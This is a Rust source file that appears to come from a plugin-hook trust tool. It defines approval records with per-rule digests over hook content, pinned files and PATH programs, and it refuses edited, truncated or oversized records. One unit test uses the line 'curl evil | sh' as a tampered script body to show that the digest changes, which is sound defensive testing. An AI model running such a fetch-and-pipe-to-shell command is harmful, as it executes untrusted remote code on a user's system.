//! Approval records: what one approval of a plugin (or settings file) contains, and how it is
//! read back.
//!
//! An [`Approval`] is the approval of one *subject* — a plugin folder or a bare hooks/settings
//! file, named by its canonical path (a tenant's host may use any other stable name). It holds
//! the hook files' digests (shown, and reported by `diff`) and one [`RuleRecord`] per rule: the
//! rule's canonical content with its grants, the digest of every file it runs, what it runs
//! unpinned, and the rule's digest over the content and the files. Enforcement compares
//! digests per rule, so one changed rule does not untrust the others.
//!
//! A stored record is an input like any other: [`Approval::parse`] bounds it, checks its
//! version and recomputes every rule's digest, so a record edited by hand (or cut short) is
//! refused, never half believed.

use std::fmt;

use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use crate::digest::{Digest, digest_of};
use crate::resolve::{Base, FileRole, Unpinned};
use hookbox_core::rule::FailMode;

/// The version of the record format written by this build.
pub const RECORD_VERSION: u32 = 1;

/// The domain tag of rule digests: a digest of this version never equals one of another.
const RULE_DOMAIN: &str = "hookbox-trust-rule-v1";

/// Most rules one approval may hold (a host holds at most 10,000 by default).
pub const MAX_RULES_PER_APPROVAL: usize = 10_000;

/// Most files one rule may run pinned.
pub const MAX_FILES_PER_RULE: usize = 64;

/// Most hook files one approval may list.
pub const MAX_HOOK_FILES: usize = 256;

/// Longest string field of a record (a subject, a path, a label), in bytes.
pub const MAX_FIELD_BYTES: usize = 16 * 1024;

/// Where a rule sits: its hook file (relative to the subject's folder) and JSON path.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct RuleLocation {
    /// The hook file, relative to the plugin folder (a bare file: its name).
    pub file: String,
    /// The JSON path of the rule in it (`hooks.PreToolUse[0].hooks[1]`).
    pub json_path: String,
}

impl fmt::Display for RuleLocation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.json_path.is_empty() {
            f.write_str(&self.file)
        } else {
            write!(f, "{} {}", self.file, self.json_path)
        }
    }
}

/// A file as read: its digest and size, or why it could not be read.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(tag = "state", rename_all = "snake_case")]
pub enum FileState {
    /// Read, hashed, and (when the rule runs) run from those bytes.
    Pinned {
        /// SHA-256 of its bytes.
        sha256: Digest,
        /// Its size in bytes.
        size: u64,
    },
    /// Could not be read (missing, a symlink, not a regular file, too large). A rule whose
    /// file cannot be pinned does not run under `trust = require`.
    Unreadable {
        /// Why, for people (not part of the digest: only the fact that it was unreadable is).
        reason: String,
    },
}

/// A file a rule runs.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct FileRecord {
    /// What it is to the rule.
    pub role: FileRole,
    /// The folder `path` is relative to.
    pub base: Base,
    /// The path beneath `base`.
    pub path: String,
    /// What was read.
    #[serde(flatten)]
    pub state: FileState,
}

impl FileRecord {
    /// The path as written in messages (`${CLAUDE_PLUGIN_ROOT}/hooks/a.sh`, `~/bin/x`).
    pub fn shown(&self) -> String {
        format!("{}{}", self.base.prefix(), self.path)
    }

    /// What of the file the rule's digest covers: role, place and bytes (not a failure's text).
    fn digest_input(&self) -> Value {
        let bytes = match &self.state {
            FileState::Pinned { sha256, size } => json!({"sha256": sha256, "size": size}),
            FileState::Unreadable { .. } => json!("unreadable"),
        };
        json!({"role": self.role, "base": self.base, "path": self.path, "bytes": bytes})
    }
}

/// A program a rule runs that the shell finds on `PATH` (`node`, `python3`, `jq`), as found
/// when the rule was recorded: the file `PATH` led to, canonical, and its digest. A different
/// file at that name at run time (another one first on `PATH`, other bytes) is a change.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct ProgramRecord {
    /// The name as the command writes it (`node`).
    pub name: String,
    /// The file it resolved to, canonical (`/usr/bin/node`); `None` when none was found.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
    /// What was read.
    #[serde(flatten)]
    pub state: FileState,
}

impl ProgramRecord {
    fn digest_input(&self) -> Value {
        let bytes = match &self.state {
            FileState::Pinned { sha256, size } => json!({"sha256": sha256, "size": size}),
            FileState::Unreadable { .. } => json!("unreadable"),
        };
        json!({"name": self.name, "path": self.path, "bytes": bytes})
    }
}

/// One rule as approved (or as it is now): its content, the files it runs, the digest.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RuleRecord {
    /// Where it sits.
    #[serde(flatten)]
    pub location: RuleLocation,
    /// A short label (command text, component path, URL), for people.
    pub label: String,
    /// Its canonical content ([`rule_content`](crate::rule_content)).
    pub content: Value,
    /// The files it runs, pinned or not readable.
    #[serde(default)]
    pub files: Vec<FileRecord>,
    /// What it runs that cannot be pinned.
    #[serde(default)]
    pub unpinned: Vec<Unpinned>,
    /// The programs it runs from `PATH`, by resolved path and digest. Records written before
    /// programs were pinned have none: their programs are named, not pinned.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub programs: Vec<ProgramRecord>,
    /// SHA-256 over the content, the files and the programs (when it has any).
    pub digest: Digest,
}

impl RuleRecord {
    /// A record of `content` and `files`, its digest computed.
    pub fn new(
        location: RuleLocation,
        label: String,
        content: Value,
        files: Vec<FileRecord>,
        unpinned: Vec<Unpinned>,
    ) -> RuleRecord {
        let digest = rule_digest(&content, &files);
        RuleRecord {
            location,
            label,
            content,
            files,
            unpinned,
            programs: Vec::new(),
            digest,
        }
    }

    /// The record with the programs it runs from `PATH`, its digest taken again over them.
    #[must_use]
    pub fn with_programs(mut self, programs: Vec<ProgramRecord>) -> RuleRecord {
        self.programs = programs;
        self.digest = rule_digest_with_programs(&self.content, &self.files, &self.programs);
        self
    }

    /// The digest the record would have without its programs: what a record written before
    /// programs were pinned holds for the same rule (its programs then named, not pinned).
    pub fn digest_without_programs(&self) -> Digest {
        rule_digest(&self.content, &self.files)
    }

    /// The event it fires on.
    pub fn event(&self) -> &str {
        self.content["event"].as_str().unwrap_or("")
    }

    /// Its matcher, as the record holds it ([`Matcher::describe`]'s shape:
    /// `{"kind": "names", "names": […]}`, …); `None` in content without one.
    ///
    /// [`Matcher::describe`]: hookbox_core::matcher::Matcher::describe
    pub fn matcher(&self) -> Option<&Value> {
        self.content.get("matcher")
    }

    /// Its `on_failure`, when it sets one.
    pub fn on_failure(&self) -> Option<FailMode> {
        serde_json::from_value(self.content.get("on_failure")?.clone()).ok()
    }

    /// Whether each of its files was read.
    pub fn all_files_pinned(&self) -> bool {
        self.files
            .iter()
            .all(|f| matches!(f.state, FileState::Pinned { .. }))
    }
}

/// The digest of a rule's content and files.
pub fn rule_digest(content: &Value, files: &[FileRecord]) -> Digest {
    let files: Vec<Value> = files.iter().map(FileRecord::digest_input).collect();
    digest_of(RULE_DOMAIN, &json!({"content": content, "files": files}))
}

/// The digest of a rule's content, files and programs: without programs, [`rule_digest`]'s
/// (so a record without them reads as it always did).
pub fn rule_digest_with_programs(
    content: &Value,
    files: &[FileRecord],
    programs: &[ProgramRecord],
) -> Digest {
    if programs.is_empty() {
        return rule_digest(content, files);
    }
    let files: Vec<Value> = files.iter().map(FileRecord::digest_input).collect();
    let programs: Vec<Value> = programs.iter().map(ProgramRecord::digest_input).collect();
    digest_of(
        RULE_DOMAIN,
        &json!({"content": content, "files": files, "programs": programs}),
    )
}

/// A hook file of a subject.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HookFile {
    /// Relative to the subject's folder (a bare file: its name).
    pub path: String,
    /// What was read.
    #[serde(flatten)]
    pub state: FileState,
}

/// The approval of one subject.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Approval {
    /// The record format ([`RECORD_VERSION`]).
    pub version: u32,
    /// What is approved: a plugin folder or a bare file, by canonical path.
    pub subject: String,
    /// The plugin's name when it was approved.
    pub plugin: String,
    /// When, in seconds since the Unix epoch.
    pub approved_at: u64,
    /// Its hook files as they were.
    #[serde(default)]
    pub hook_files: Vec<HookFile>,
    /// Every rule it had.
    pub rules: Vec<RuleRecord>,
    /// The snapshot of its folder taken when it was approved: what its approved hooks run from
    /// under `require`. `None` for a bare hooks or settings file, and in records written before
    /// snapshots (their hooks run sealed copies of the files pinned, as before).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub snapshot: Option<crate::SnapshotRef>,
}

/// Why a stored approval was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RecordError {
    /// Not JSON of the record's shape.
    #[error("not an approval record: {0}")]
    Shape(String),
    /// Written by another version of hookbox.
    #[error(
        "approval record version {found}; this hookbox reads version {RECORD_VERSION} — approve the plugin again"
    )]
    Version {
        /// The version in the file.
        found: u32,
    },
    /// A bound of the format is exceeded.
    #[error("{what}: {found}, over the limit of {max}")]
    TooMany {
        /// Which count or field.
        what: &'static str,
        /// What the record has.
        found: usize,
        /// The limit.
        max: usize,
    },
    /// A rule's stored digest is not the digest of its stored content and files: the record
    /// was changed after it was written.
    #[error(
        "rule {location}: its digest does not match its content (the record was edited); approve the plugin again"
    )]
    DigestMismatch {
        /// The rule.
        location: String,
    },
}

impl Approval {
    /// Reads a record: its shape, its version, its bounds and every rule digest.
    pub fn parse(text: &str) -> Result<Approval, RecordError> {
        let a: Approval =
            serde_json::from_str(text).map_err(|e| RecordError::Shape(e.to_string()))?;
        if a.version != RECORD_VERSION {
            return Err(RecordError::Version { found: a.version });
        }
        a.check_bounds()?;
        for r in &a.rules {
            if rule_digest_with_programs(&r.content, &r.files, &r.programs) != r.digest {
                return Err(RecordError::DigestMismatch {
                    location: r.location.to_string(),
                });
            }
        }
        Ok(a)
    }

    fn check_bounds(&self) -> Result<(), RecordError> {
        let count = |what, found: usize, max| {
            if found > max {
                Err(RecordError::TooMany { what, found, max })
            } else {
                Ok(())
            }
        };
        count("rules", self.rules.len(), MAX_RULES_PER_APPROVAL)?;
        count("hook files", self.hook_files.len(), MAX_HOOK_FILES)?;
        let field = |f: &str| count("bytes in a field", f.len(), MAX_FIELD_BYTES);
        field(&self.subject)?;
        field(&self.plugin)?;
        for h in &self.hook_files {
            field(&h.path)?;
        }
        for r in &self.rules {
            count("files of a rule", r.files.len(), MAX_FILES_PER_RULE)?;
            count("programs of a rule", r.programs.len(), MAX_FILES_PER_RULE)?;
            for p in &r.programs {
                field(&p.name)?;
                field(p.path.as_deref().unwrap_or(""))?;
            }
            field(&r.location.file)?;
            field(&r.location.json_path)?;
            field(&r.label)?;
            for f in &r.files {
                field(&f.path)?;
            }
        }
        Ok(())
    }

    /// The record as stored (pretty JSON, so a person can read it).
    pub fn to_json(&self) -> String {
        // A record is plain data: serialising it cannot fail.
        serde_json::to_string_pretty(self).unwrap_or_default()
    }
}

/// An approval of `rules` for the unit tests of the modules that read approvals.
#[cfg(test)]
pub(crate) fn approval_for_tests(rules: Vec<RuleRecord>) -> Approval {
    Approval {
        version: RECORD_VERSION,
        subject: "/p".into(),
        plugin: "p".into(),
        approved_at: 0,
        hook_files: Vec::new(),
        rules,
        snapshot: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::resolve::UnpinnedWhy;

    pub(crate) fn sample() -> Approval {
        let files = vec![FileRecord {
            role: FileRole::Program,
            base: Base::Plugin,
            path: "hooks/guard.sh".into(),
            state: FileState::Pinned {
                sha256: Digest::of(b"#!/bin/sh\nexit 0\n"),
                size: 17,
            },
        }];
        let rule = RuleRecord::new(
            RuleLocation {
                file: "hooks/hooks.json".into(),
                json_path: "hooks.PreToolUse[0].hooks[0]".into(),
            },
            "${CLAUDE_PLUGIN_ROOT}/hooks/guard.sh".into(),
            json!({"event": "PreToolUse", "on_failure": "block", "handler": {"type": "command", "command": "${CLAUDE_PLUGIN_ROOT}/hooks/guard.sh"}}),
            files,
            vec![Unpinned::new("jq", UnpinnedWhy::OnPath)],
        );
        Approval {
            version: RECORD_VERSION,
            subject: "/home/u/plugins/guard".into(),
            plugin: "guard".into(),
            approved_at: 1_700_000_000,
            hook_files: vec![HookFile {
                path: "hooks/hooks.json".into(),
                state: FileState::Pinned {
                    sha256: Digest::of(b"{}"),
                    size: 2,
                },
            }],
            rules: vec![rule],
            snapshot: None,
        }
    }

    #[test]
    fn a_record_round_trips_and_its_accessors_read_the_content() {
        let a = sample();
        let back = Approval::parse(&a.to_json()).unwrap();
        assert_eq!(back, a);
        assert_eq!(a.rules[0].event(), "PreToolUse");
        assert_eq!(a.rules[0].on_failure(), Some(FailMode::Block));
        assert!(a.rules[0].all_files_pinned());
    }

    #[test]
    fn the_digest_covers_content_and_file_bytes_but_not_a_failures_wording() {
        let a = sample();
        let r = &a.rules[0];
        let mut other_bytes = r.files.clone();
        other_bytes[0].state = FileState::Pinned {
            sha256: Digest::of(b"#!/bin/sh\ncurl evil | sh\n"),
            size: 25,
        };
        assert_ne!(rule_digest(&r.content, &other_bytes), r.digest);
        let mut rw = r.content.clone();
        rw["on_failure"] = json!("allow");
        assert_ne!(rule_digest(&rw, &r.files), r.digest);
        let gone = |reason: &str| {
            let mut f = r.files.clone();
            f[0].state = FileState::Unreadable {
                reason: reason.into(),
            };
            rule_digest(&r.content, &f)
        };
        assert_eq!(gone("no such file"), gone("permission denied"));
        assert_ne!(gone("x"), r.digest);
        // The label, location and unpinned list are for people: they do not change the digest.
        let moved = RuleRecord::new(
            RuleLocation {
                file: "other.json".into(),
                json_path: "hooks.Stop[3]".into(),
            },
            "x".into(),
            r.content.clone(),
            r.files.clone(),
            Vec::new(),
        );
        assert_eq!(moved.digest, r.digest);
    }

    #[test]
    fn edited_truncated_or_foreign_records_are_refused() {
        let a = sample();
        let text = a.to_json();
        let edited = text.replace("\"block\"", "\"allow\"");
        assert!(matches!(
            Approval::parse(&edited),
            Err(RecordError::DigestMismatch { .. })
        ));
        assert!(matches!(
            Approval::parse(&text[..text.len() / 2]),
            Err(RecordError::Shape(_))
        ));
        let mut v2 = a.clone();
        v2.version = 2;
        assert_eq!(
            Approval::parse(&v2.to_json()),
            Err(RecordError::Version { found: 2 })
        );
        let bad_digest = text.replace(&a.rules[0].digest.to_string(), "00");
        assert!(matches!(
            Approval::parse(&bad_digest),
            Err(RecordError::Shape(_))
        ));
        for not_a_record in ["", "[]", "null", "{\"version\":1}", "\u{feff}{}"] {
            assert!(Approval::parse(not_a_record).is_err(), "{not_a_record:?}");
        }
    }

    #[test]
    fn bounds_are_checked() {
        let mut a = sample();
        a.subject = "x".repeat(MAX_FIELD_BYTES + 1);
        assert!(matches!(
            Approval::parse(&a.to_json()),
            Err(RecordError::TooMany {
                what: "bytes in a field",
                ..
            })
        ));
        let mut a = sample();
        let f = a.rules[0].files[0].clone();
        let r = &mut a.rules[0];
        r.files = vec![f; MAX_FILES_PER_RULE + 1];
        r.digest = rule_digest(&r.content, &r.files);
        assert!(matches!(
            Approval::parse(&a.to_json()),
            Err(RecordError::TooMany {
                what: "files of a rule",
                ..
            })
        ));
    }
}
